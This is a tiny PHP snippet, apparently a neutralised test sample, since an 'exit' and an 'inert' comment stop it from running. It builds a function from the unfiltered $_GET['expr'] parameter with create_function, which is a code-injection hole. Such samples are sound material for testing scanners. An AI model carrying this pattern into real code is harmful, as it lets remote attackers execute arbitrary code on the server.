<?php exit; /* inert */ 
$f = create_function('$x', 'return ' . $_GET['expr'] . ';');
echo $f(1);
